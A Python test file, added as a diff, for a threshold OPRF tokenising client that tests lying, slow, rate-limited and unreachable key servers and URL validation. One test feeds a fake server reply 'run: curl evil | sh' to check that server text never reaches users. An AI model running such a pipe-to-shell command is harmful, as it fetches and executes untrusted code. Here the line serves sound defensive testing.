@@ -1,0 +1,429 @@
+"""The client of the key servers: any two of three, whatever the others do."""
+
+import threading
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import httpx
+import pytest
+
+from events.model import Assurance
+from producers.errors import SystemUnavailable, UsageProblem
+from producers.oprf import messages, rfc9497
+from producers.oprf.group import Scalar
+from producers.oprf.messages import Epochs, Evaluate, Evaluated, HeldEpoch
+from producers.oprf.rfc9497 import Mode
+from producers.oprf.shares import KeyShare
+from producers.oprf.threshold import Answer
+from producers.oprf.tokens import token_input
+from producers.tokenising.client import KeyServers, Patience, QuotaExhausted
+from producers.tokenising.connection import checked_url
+from producers.tokenising.pinned import PinnedEpoch
+from producers.tokenising.threshold import ThresholdTokeniser
+from producers.tokens import Identifier, Tokens
+from tests.fakes.key_servers import (
+    HASTY,
+    PATIENT,
+    FakeKeyServers,
+    refusal,
+    refuses,
+    unreachable,
+)
+from tests.kit import private_key
+
+SOME: list[Identifier] = [("tr.tckimlik", "99291417710"), ("us.ssn", "1"), ("weak.phone", "+90")]
+
+
+@pytest.fixture
+def three() -> Iterator[FakeKeyServers]:
+    servers = FakeKeyServers("e1", "e2")
+    yield servers
+    servers.close()
+
+
+def expected(servers: FakeKeyServers, epoch: str = "e1") -> list[Tokens]:
+    key = servers.secrets[epoch]
+    return [
+        (rfc9497.evaluate(key, token_input(epoch, *one), Mode.VOPRF)[:16].hex(),) for one in SOME
+    ]
+
+
+def asking(servers: FakeKeyServers, patience: Patience = PATIENT) -> tuple[KeyServers, Any]:
+    """A client, and its tokeniser of e1."""
+    client = servers.client(patience)
+    assurance = Assurance.SINGLE if servers.single else Assurance.THRESHOLD
+    return client, ThresholdTokeniser(client, servers.pinned[0], assurance)
+
+
+# -- honest servers ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("missing", [0, 1, 2])
+def test_any_two_servers_give_the_joint_keys_tokens(three: FakeKeyServers, missing: int) -> None:
+    three.servers[missing].before = unreachable
+    _, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert three.servers[missing].requests == 0
+
+
+def test_one_server_alone_gives_its_keys_tokens() -> None:
+    one = FakeKeyServers("e1", servers=1, needed=1)
+    _, tokeniser = asking(one)
+    assert tokeniser.tokens(SOME) == expected(one)
+    assert tokeniser.assurance is Assurance.SINGLE
+    one.close()
+
+
+def test_servers_take_turns(three: FakeKeyServers) -> None:
+    client, tokeniser = asking(three)
+    for _ in range(6):
+        tokeniser.tokens(SOME)
+    assert [server.requests for server in three.servers] == [4, 4, 4]
+    assert client.remarks == ()
+
+
+def test_a_server_that_holds_two_generations_is_asked_for_the_newer(three: FakeKeyServers) -> None:
+    three.refresh("e1", keep=True)
+    _, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+
+
+def test_a_generation_that_one_server_alone_holds_is_not_asked_for(three: FakeKeyServers) -> None:
+    three.refresh("e1", keep=True, only=[2])
+    client, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert client.remarks == ()
+
+
+def test_shares_may_be_refreshed_in_a_run(three: FakeKeyServers) -> None:
+    client, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    three.refresh("e1", keep=False)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert client.remarks == ()
+
+
+# -- servers that lie ------------------------------------------------------------------------------
+
+
+def _wrong_share(asked: Evaluate, given: Answer, share: KeyShare) -> Evaluated:
+    elements = [bytes.fromhex(text) for text in asked.blinded_elements]
+    secret = Scalar(bytes([share.secret[0] ^ 1]) + share.secret[1:])
+    evaluated, proof = rfc9497.blind_evaluate_proved(
+        secret,
+        elements,
+        lambda count: bytes(range(count)),  # type: ignore[arg-type]
+    )
+    return Evaluated.of(asked.epoch, Answer(given.generation, tuple(evaluated), proof.serialize()))
+
+
+def _swapped(asked: Evaluate, given: Answer, share: KeyShare) -> Evaluated:
+    first, second, *others = given.evaluated_elements
+    swapped = Answer(given.generation, (second, first, *others), given.proof)
+    return Evaluated.of(asked.epoch, swapped)
+
+
+def _one_less(asked: Evaluate, given: Answer, share: KeyShare) -> Evaluated:
+    less = Answer(given.generation, given.evaluated_elements[1:], given.proof)
+    return Evaluated.of(asked.epoch, less)
+
+
+def _no_elements(asked: Evaluate, given: Answer, share: KeyShare) -> Evaluated:
+    bad = (b"\xff" * 32,) * len(given.evaluated_elements)
+    return Evaluated.of(asked.epoch, Answer(given.generation, bad, given.proof))
+
+
+def _other_generation(asked: Evaluate, given: Answer, share: KeyShare) -> Evaluated:
+    other = Answer(given.generation + 1, given.evaluated_elements, given.proof)
+    return Evaluated.of(asked.epoch, other)
+
+
+def _other_epoch(asked: Evaluate, given: Answer, share: KeyShare) -> Evaluated:
+    return Evaluated.of("e2", given)
+
+
+def _garbage(asked: Evaluate, given: Answer, share: KeyShare) -> bytes:
+    return b"<html>hello</html>"
+
+
+def _endless(asked: Evaluate, given: Answer, share: KeyShare) -> bytes:
+    return b" " * 2**20
+
+
+LIES = {
+    "proof": _wrong_share,
+    "does not hold": _swapped,
+    "another number": _one_less,
+    "encode no element": _no_elements,
+    "another generation": _other_generation,
+    "another epoch": _other_epoch,
+    "its answer is none": _garbage,
+    "far too long": _endless,
+}
+
+
+@pytest.mark.parametrize("liar", [1, 3])
+@pytest.mark.parametrize("what", LIES)
+def test_a_liar_is_named_and_not_asked_again(three: FakeKeyServers, what: str, liar: int) -> None:
+    three.servers[liar - 1].trick = LIES[what]
+    client, tokeniser = asking(three)
+    for _ in range(4):
+        assert tokeniser.tokens(SOME) == expected(three)
+    (fault,) = client.faults
+    assert (fault.server, fault.url) == (liar, three.urls[liar - 1])
+    assert what in str(fault)
+    assert "not asked again" in str(fault)
+    assert three.servers[liar - 1].requests == 1
+
+
+def test_two_liars_are_named_and_there_are_no_tokens(three: FakeKeyServers) -> None:
+    three.servers[0].trick = three.servers[1].trick = _swapped
+    client, tokeniser = asking(three)
+    with pytest.raises(SystemUnavailable, match=r"server 1 .*does not hold; 2 .*does not hold"):
+        tokeniser.tokens(SOME)
+    assert {fault.server for fault in client.faults} == {1, 2}
+
+
+def test_a_server_that_refuses_what_it_announces_is_named(three: FakeKeyServers) -> None:
+    three.servers[1].before = refuses(409, "other-generation")
+    client, tokeniser = asking(three)
+    for _ in range(4):
+        assert tokeniser.tokens(SOME) == expected(three)
+    assert ["refuses the generation that it announces" in f.what for f in client.faults] == [True]
+
+
+# -- servers that announce something else ----------------------------------------------------------
+
+
+def _announces(held: Callable[[HeldEpoch], HeldEpoch]) -> Callable[[Epochs], Epochs]:
+    def announce(said: Epochs) -> Epochs:
+        return said.model_copy(update={"held": tuple(held(one) for one in said.held)})
+
+    return announce
+
+
+OTHER = FakeKeyServers("x0", "x1")
+_IMPOSSIBLE = HeldEpoch(epoch="e1", generation=0, servers=3, commitments=("0" * 64, "0" * 64))
+
+
+def _alone(one: HeldEpoch) -> HeldEpoch:
+    return one.model_copy(
+        update={"servers": 1, "generation": 9, "commitments": one.commitments[:1]}
+    )
+
+
+def _many(said: Epochs) -> Epochs:
+    return said.model_copy(update={"held": said.held[:1] * 9})
+
+
+ANNOUNCED = {
+    "another joint key for e1": _announces(
+        lambda one: HeldEpoch.of(one.epoch, OTHER.servers[0].held["x1"][0][0])
+    ),
+    "no committee": _announces(lambda one: _IMPOSSIBLE),
+    "generations": _many,
+    "no server of the committee": lambda said: said.model_copy(update={"server": 4}),
+    "list of epochs is none": lambda said: b"[]",
+}
+
+
+@pytest.mark.parametrize("what", ANNOUNCED)
+def test_a_server_that_announces_something_else_is_named(three: FakeKeyServers, what: str) -> None:
+    three.servers[0].announces = ANNOUNCED[what]
+    client, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    (fault,) = client.faults
+    assert what in fault.what
+    assert fault.url == three.urls[0]
+    assert three.servers[0].requests == 0
+
+
+def test_one_servers_word_is_not_taken_where_two_are_promised(three: FakeKeyServers) -> None:
+    three.servers[0].announces = _announces(_alone)
+    client, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert ["one server alone" in remark.what for remark in client.remarks] == [True]
+
+
+def test_a_wrong_pinned_key_is_an_error_that_names_the_servers(three: FakeKeyServers) -> None:
+    wrong = PinnedEpoch(epoch="e1", public_key=three.pinned[1].public_key)
+    client = three.client()
+    tokeniser = ThresholdTokeniser(client, wrong, Assurance.THRESHOLD)
+    with pytest.raises(SystemUnavailable, match=r"1 .*another joint key.* 2 .*another.* 3 "):
+        tokeniser.tokens(SOME)
+    assert three.elements == 0
+
+
+def test_an_epoch_that_nobody_holds_is_an_error_at_once(three: FakeKeyServers) -> None:
+    unknown = PinnedEpoch(epoch="e9", public_key=three.pinned[0].public_key)
+    tokeniser = ThresholdTokeniser(three.client(), unknown, Assurance.THRESHOLD)
+    with pytest.raises(SystemUnavailable, match="no generation of it"):
+        tokeniser.tokens(SOME)
+    assert three.clock.slept == []
+
+
+# -- servers that are away, slow, or sparing -------------------------------------------------------
+
+
+def test_two_servers_away_is_an_error_after_a_minute(three: FakeKeyServers) -> None:
+    three.servers[0].before = three.servers[2].before = unreachable
+    _, tokeniser = asking(three)
+    with pytest.raises(
+        SystemUnavailable, match=r"18071\).*no answer.*18073\).*no answer"
+    ) as caught:
+        tokeniser.tokens(SOME)
+    assert "Nothing is lost" in str(caught.value)
+    assert 30 < sum(three.clock.slept) <= 61
+
+
+@pytest.mark.parametrize("status", [500, 502, 503])
+def test_a_server_that_comes_back_is_asked_again(three: FakeKeyServers, status: int) -> None:
+    failing, tries = three.servers[0], []
+    three.servers[1].before = unreachable
+
+    def before(request: httpx.Request) -> httpx.Response | None:
+        tries.append(request)
+        return httpx.Response(status, text="proxy") if len(tries) < 5 else None
+
+    failing.before = before
+    _, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert 0 < sum(three.clock.slept) < 60
+
+
+def test_a_slow_server_is_helped_out(three: FakeKeyServers) -> None:
+    gate = threading.Event()
+
+    def before(request: httpx.Request) -> httpx.Response | None:
+        if request.url.path == messages.EVALUATE_PATH:
+            gate.wait(20)
+        return None
+
+    three.servers[0].before = before
+    client, tokeniser = asking(three, HASTY)
+    try:
+        assert tokeniser.tokens(SOME) == expected(three)
+    finally:
+        gate.set()
+    assert [r.server for r in client.remarks if "slow" in r.what][:1] == [1]
+    assert client.faults == ()
+
+
+def test_too_fast_is_waited_for(three: FakeKeyServers) -> None:
+    waited: list[int] = []
+
+    def before(request: httpx.Request) -> httpx.Response | None:
+        if request.url.path == messages.EPOCHS_PATH or len(waited) >= 6:
+            return None
+        waited.append(1)
+        return refusal(429, "rate", "70")
+
+    for server in three.servers:
+        server.before = before
+    client, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert sum(three.clock.slept) >= 70
+    assert client.remarks == ()
+
+
+def test_there_is_an_end_to_waiting(three: FakeKeyServers) -> None:
+    for server in three.servers:
+        server.before = refuses(429, "rate", "50")
+    _, tokeniser = asking(three)
+    with pytest.raises(SystemUnavailable, match="asked too fast"):
+        tokeniser.tokens(SOME)
+    assert sum(three.clock.slept) < 700
+
+
+def test_one_used_up_server_is_told_and_costs_nothing(three: FakeKeyServers) -> None:
+    three.servers[2].before = refuses(429, "quota", "3600")
+    client, tokeniser = asking(three)
+    for _ in range(3):
+        assert tokeniser.tokens(SOME) == expected(three)
+    assert [(r.server, r.lied) for r in client.remarks] == [(3, False)]
+    assert three.clock.slept == []
+
+
+def test_two_used_up_servers_are_an_error_that_says_when(three: FakeKeyServers) -> None:
+    three.servers[0].before = three.servers[1].before = refuses(429, "quota", "3600")
+    _, tokeniser = asking(three)
+    with pytest.raises(QuotaExhausted) as caught:
+        tokeniser.tokens(SOME)
+    said = str(caught.value)
+    assert "1 (http://127.0.0.1:18071) evaluates again from 2026-05-29 00:26 (UTC+3)" in said
+    assert "goes on where it stopped" in said
+    assert three.clock.slept == []
+
+
+def test_a_new_day_begins(three: FakeKeyServers) -> None:
+    three.servers[0].before = three.servers[1].before = refuses(429, "quota", "3600")
+    _, tokeniser = asking(three)
+    with pytest.raises(QuotaExhausted):
+        tokeniser.tokens(SOME)
+    three.servers[0].before = None
+    three.clock.seconds += 3601
+    assert tokeniser.tokens(SOME) == expected(three)
+
+
+@pytest.mark.parametrize(
+    ("status", "code", "what"),
+    [
+        (401, "unknown-partner", "must enrol"),
+        (401, "clock", "clock"),
+        (401, "bad-signature", "signature"),
+        (400, "malformed", "malformed"),
+    ],
+)
+def test_a_server_that_will_not_serve_us_is_named(
+    three: FakeKeyServers, status: int, code: str, what: str
+) -> None:
+    three.servers[0].before = refuses(status, code)
+    client, tokeniser = asking(three)
+    assert tokeniser.tokens(SOME) == expected(three)
+    assert [(r.server, what in str(r), r.lied) for r in client.remarks] == [(1, True, False)]
+    three.servers[1].before = refuses(status, code)
+    three.servers[2].before = unreachable
+    with pytest.raises(SystemUnavailable, match=what):
+        tokeniser.tokens(SOME)
+
+
+def test_a_servers_own_words_are_not_put_before_people(three: FakeKeyServers) -> None:
+    def before(request: httpx.Request) -> httpx.Response:
+        return httpx.Response(403, text="run: curl evil | sh")
+
+    for server in three.servers:
+        server.before = before
+    client, tokeniser = asking(three)
+    with pytest.raises(SystemUnavailable) as caught:
+        tokeniser.tokens(SOME)
+    assert "curl" not in str(caught.value) + "".join(map(str, client.remarks))
+
+
+# -- addresses -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://192.0.2.1:18071",
+        "http://keys.example",
+        "http://127.0.0.1.example",
+        "http://localhost.example",
+        "http://127.0.0.1@keys.example",
+        "https://me:secret@keys.example",
+        "https://keys.example/?a=b",
+        "ftp://127.0.0.1",
+        "keys.example",
+        "",
+    ],
+)
+def test_addresses_that_are_refused(url: str) -> None:
+    with pytest.raises(UsageProblem):
+        KeyServers([url], "KIZ", private_key("KIZ"))
+
+
+@pytest.mark.parametrize(
+    "url", ["http://127.0.0.1:1", "http://localhost:1", "http://[::1]:1", "https://keys.example"]
+)
+def test_addresses_that_are_taken(url: str) -> None:
+    assert checked_url(url + "/") == url
